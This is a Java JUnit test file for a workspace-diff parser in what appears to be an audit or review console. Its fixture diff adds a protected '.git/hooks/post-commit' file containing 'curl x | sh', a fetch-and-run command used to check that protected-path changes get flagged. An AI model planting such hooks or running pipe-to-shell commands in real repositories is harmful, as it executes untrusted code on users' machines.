package io.plumbline.console.session;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.plumbline.console.search.TimelineEvent;
import io.plumbline.events.ecs.EcsDocument;
import io.plumbline.events.v1.ChangesFound;
import io.plumbline.events.v1.Channel;
import io.plumbline.events.v1.Event;
import io.plumbline.events.v1.EvidenceCollected;
import io.plumbline.events.v1.ReviewDecided;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class WorkspaceDiffTest {
    private static final String DIFF = """
        M a.txt
          file 644, 8 bytes, sha256 00 -> file 644, 24 bytes, sha256 11
        A .git/hooks/post-commit  [protected]
          nothing -> file 755, 9 bytes, sha256 22
        --- a/a.txt
        +++ b/a.txt
        @@ -1,3 +1,3 @@
         one
        --- a/other.txt
        +++ b/other.txt
         three
        --- a/.git/hooks/post-commit
        +++ b/.git/hooks/post-commit
        @@ -0,0 +1,1 @@
        +curl x | sh
        """;

    @Test
    void linesBelongToAFileByTheCountsOfItsHunks() {
        WorkspaceDiff diff = WorkspaceDiff.of(List.of(changes(DIFF, 1, 1))).orElseThrow();
        assertThat(diff.files())
                .extracting(WorkspaceDiff.File::path)
                .containsExactly("a.txt", ".git/hooks/post-commit");
        WorkspaceDiff.File first = diff.files().getFirst();
        assertThat(first.lines())
                .containsExactly("@@ -1,3 +1,3 @@", " one", "--- a/other.txt", "+++ b/other.txt", " three");
        assertThat(first.plus()).isEqualTo(1);
        assertThat(first.minus()).isEqualTo(1);
        assertThat(first.isProtected()).isFalse();
        assertThat(diff.files().getLast().isProtected()).isTrue();
        assertThat(diff.files().getLast().lines()).contains("+curl x | sh");
        assertThat(diff.isCut()).isFalse();
    }

    @Test
    void aDifferenceThatEndsInAHunkAndFilesThatAreNotListedAreSaidToBeCut() {
        String cut = DIFF.substring(0, DIFF.indexOf(" three"));
        assertThat(WorkspaceDiff.of(List.of(changes(cut, 1, 1))).orElseThrow().isCut())
                .isTrue();
        assertThat(WorkspaceDiff.of(List.of(changes(DIFF, 7, 1))).orElseThrow().isCut())
                .isTrue();
    }

    @Test
    void behindAPrivateKeyThatWasRedactedNoLineIsGivenToAFile() {
        WorkspaceDiff diff = WorkspaceDiff.of(List.of(changes("""
            --- a/a.txt
            +++ b/a.txt
            @@ -0,0 +1,9 @@
            +[redacted:pem:0123456789abcdef]
            --- a/.git/hooks/post-commit
            +++ b/.git/hooks/post-commit
            @@ -0,0 +1,1 @@
            +curl x | sh
            """, 1, 1))).orElseThrow();
        assertThat(diff.files().getFirst().lines())
                .containsExactly("@@ -0,0 +1,9 @@", "+[redacted:pem:0123456789abcdef]");
        assertThat(diff.files().getLast().lines()).isEmpty();
        assertThat(diff.isCut()).isTrue();
    }

    @Test
    void theReviewIsTheOneOfTheseChanges() {
        TimelineEvent other = event(Event.newBuilder()
                .setReviewDecided(ReviewDecided.newBuilder()
                        .setChangesSha256("another")
                        .setAccepted(true)
                        .setDecidedBy("bea")));
        TimelineEvent own = event(Event.newBuilder()
                .setReviewDecided(ReviewDecided.newBuilder()
                        .setChangesSha256("c0ffee")
                        .setDecidedBy("bea")
                        .setReason("not this")));
        assertThat(WorkspaceDiff.of(List.of(changes(DIFF, 1, 1), other))
                        .orElseThrow()
                        .review())
                .isEmpty();
        assertThat(WorkspaceDiff.of(List.of(changes(DIFF, 1, 1), own))
                        .orElseThrow()
                        .review())
                .contains(new WorkspaceDiff.Review(false, "bea", "not this", ""));
    }

    @Test
    void withoutAReviewTheFreezesListIsShown() {
        TimelineEvent kept = collected("""
            {"since":"x","complete":true,"changed":[{"path":"a/b","kind":"file","bytes":7,"changed":"2026"}]}\
            """, 1, 1);
        WorkspaceDiff diff = WorkspaceDiff.of(List.of(kept)).orElseThrow();
        assertThat(diff.events()).isEmpty();
        assertThat(diff.files().getFirst().detail()).isEqualTo("file, 7 B, 2026");
        assertThat(diff.isCut()).isFalse();
        assertThat(WorkspaceDiff.of(List.of(collected("{", 1, 1))).orElseThrow().isCut())
                .isTrue();
        assertThat(WorkspaceDiff.of(List.of(collected("{\"changed\":[]}", 1, 2)))
                        .orElseThrow()
                        .isCut())
                .isTrue();
        assertThat(WorkspaceDiff.of(List.of())).isEmpty();
    }

    @Test
    void theLinesThatAFreezeKeptBelongToTheirFilesAcrossItsParts() {
        TimelineEvent first = collected("""
            {"complete":true,"changed":[{"path":"a.txt","kind":"file","bytes":7,"change":"modified"}],
             "diff":["M a.txt","--- a/a.txt","+++ b/a.txt","@@ -1,2 +1,2 @@"," one"]}""", 1, 2);
        TimelineEvent second = collected("""
            {"gone":[{"path":"b.txt","kind":"file","bytes":1}],"diff":["-<b>two</b>","+[redacted:token:00]"],"not_shown":0}""", 2, 2);

        WorkspaceDiff diff = WorkspaceDiff.of(List.of(second, first, second)).orElseThrow();

        assertThat(diff.files()).extracting(WorkspaceDiff.File::path).containsExactly("a.txt", "b.txt");
        assertThat(diff.files().getFirst().lines())
                .containsExactly("@@ -1,2 +1,2 @@", " one", "-<b>two</b>", "+[redacted:token:00]");
        assertThat(diff.files().getLast().lines()).isEmpty();
        assertThat(diff.events()).containsExactly(first.id(), second.id());
        assertThat(diff.isCut()).isFalse();
    }

    @Test
    void linesThatAFreezeDidNotKeepAreSaidToBeCut() {
        TimelineEvent kept = collected("{\"changed\":[],\"diff\":[\"--- a/a\",\"+++ b/a\"],\"not_shown\":3}", 1, 1);

        assertThat(WorkspaceDiff.of(List.of(kept)).orElseThrow().isCut()).isTrue();
    }

    private static TimelineEvent changes(String diff, int added, int changed) {
        return event(Event.newBuilder()
                .setChangesFound(ChangesFound.newBuilder()
                        .setChangesSha256("c0ffee")
                        .setAdded(added)
                        .setChanged(changed)
                        .addPaths("M a.txt")
                        .addPaths("A .git/hooks/post-commit")
                        .addProtectedPaths(".git/hooks/post-commit")
                        .setDiff(diff)));
    }

    private static TimelineEvent collected(String json, int part, int parts) {
        return event(Event.newBuilder()
                .setEvidenceCollected(EvidenceCollected.newBuilder()
                        .setKind("workspace")
                        .setJson(json)
                        .setOrder("o-1")
                        .setPart(part)
                        .setParts(parts)));
    }

    private static TimelineEvent event(Event.Builder builder) {
        Event event = builder.setChannel(Channel.EVIDENCE).build();
        return new TimelineEvent(
                "e-" + event.getEvidenceCollected().getPart(),
                Instant.EPOCH,
                EcsDocument.action(event.getPayloadCase()),
                "evidence",
                0,
                new ObjectMapper().valueToTree(EcsDocument.render(event)));
    }
}
